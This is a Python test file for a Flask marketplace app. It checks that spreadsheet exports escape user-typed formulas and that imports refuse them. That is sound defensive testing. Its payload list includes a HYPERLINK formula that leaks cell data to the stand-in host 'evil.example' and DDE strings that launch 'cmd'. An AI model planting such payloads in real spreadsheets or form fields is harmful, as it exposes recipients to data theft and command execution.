"""Spreadsheet formula injection (OWASP "CSV injection"): text that users type never becomes a
formula in a workbook we write, whoever exports it, and an imported formula is never stored.

Formula-like text is planted through every kind of input that reaches an export (a delivery
note, a need's title, a household's address, an organisation's name, an offer's title, a display
name), then every .xlsx each role can download is opened and its formula cells counted.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from sqlmodel import select

from marketplace.db import get_engine, session_scope
from marketplace.models import Claim, Organisation, Role, User
from marketplace.services import claims

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"详情")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

EXPORTS = {
    "hub_staff": [
        "/hub/households.xlsx",
        "/hub/needs.xlsx",
        "/hub/deliveries.xlsx",
        "/hub/import/template.xlsx",
        "/staff/dashboard.xlsx",
        "/staff/offers.xlsx",
    ],
    "admin": [
        "/admin/users.xlsx",
        "/admin/audit.xlsx",
        "/admin/users/import-template.xlsx",
        "/staff/dashboard.xlsx",
        "/staff/offers.xlsx",
    ],
}


def formula_cells(body: bytes) -> list[tuple[str, str, Any]]:
    """Every cell a spreadsheet program would evaluate: typed as a formula, or text that it
    would read as one when typed in (what a CSV round trip or a re-save produces)."""
    wb = load_workbook(io.BytesIO(body))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")
                ):
                    found.append((ws.title, cell.coordinate, value))
    return found


def test_the_detector_sees_a_formula() -> None:
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.active["A2"] = "'=1+1"
    out = io.BytesIO()
    wb.save(out)
    assert [c[1] for c in formula_cells(out.getvalue())] == ["A1"]


@pytest.fixture
def planted(
    app: Any,
    make_user: Callable[..., User],
    make_org: Callable[..., Organisation],
    make_household: Callable[..., Any],
    make_need: Callable[..., Any],
    make_offer: Callable[..., Any],
) -> dict[str, User]:
    org = make_org(vetted=True)
    users = {
        "admin": make_user(Role.ADMIN),
        "hub_staff": make_user(Role.HUB_STAFF, hub="330102"),
        "member": make_user(Role.MEMBER),
        "org": make_user(Role.ORG, org_id=org.id),
    }
    staff = users["hub_staff"]
    for i, payload in enumerate(PAYLOADS):
        household = make_household(staff, address=f"{payload}号{i}")
        need = make_need(staff, household, title=f"{payload}心愿"[:100])
        make_offer(users["org"], title=f"{payload}项目"[:100])
        with app.app_context(), session_scope(get_engine(app)) as s:
            member = s.get(User, users["member"].id)
            assert member is not None
            claim = claims.claim_wish(
                s, member=member, wish_id=need.id, policy=claims.ClaimPolicy(max_open=100)
            )
            claims.report_delivery(
                s, actor=member, claim_id=claim.id or 0, note=payload, photo_path="p.jpg"
            )  # a photo: the note may be as short as the payload
    with app.app_context(), session_scope(get_engine(app)) as s:
        stored = s.get(Organisation, org.id)
        assert stored is not None
        stored.name = PAYLOADS[0]
        for user in users.values():
            row = s.get(User, user.id)
            assert row is not None
            row.display_name = PAYLOADS[1]
        assert len(s.exec(select(Claim.id)).all()) == len(PAYLOADS)
    return users


@pytest.mark.parametrize("role", sorted(EXPORTS))
def test_no_export_holds_a_formula_from_user_text(
    role: str,
    planted: dict[str, User],
    client: FlaskClient,
    login_as: Callable[[User], FlaskClient],
) -> None:
    login_as(planted[role])
    for url in EXPORTS[role]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.mimetype.endswith("spreadsheetml.sheet"), url
        assert formula_cells(response.data) == [], url
    if role == "hub_staff":
        # The planted text is still there, as text: escaped, not dropped.
        wb = load_workbook(io.BytesIO(client.get("/hub/deliveries.xlsx").data))
        values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
        assert "'" + PAYLOADS[0] in values


def test_an_imported_formula_is_refused_and_nothing_is_stored(
    make_user: Callable[..., User],
    client: FlaskClient,
    login_as: Callable[[User], FlaskClient],
) -> None:
    staff = make_user(Role.HUB_STAFF, hub="330102")
    login_as(staff)
    wb = load_workbook(io.BytesIO(client.get("/hub/import/template.xlsx").data))
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    ws.append(
        ['=HYPERLINK("http://evil.example","x")' if i == 0 else None for i in range(len(headers))]
    )
    out = io.BytesIO()
    wb.save(out)
    response = client.post(
        "/hub/import",
        data={"file": (io.BytesIO(out.getvalue()), "households.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code in (200, 422)
    page = response.get_data(as_text=True)
    assert "import-errors" in page  # the row report lists the refused cell
    households = client.get("/hub/households.xlsx")
    assert formula_cells(households.data) == []
    data_rows = list(load_workbook(io.BytesIO(households.data)).worksheets[0].iter_rows(min_row=2))
    assert data_rows == []
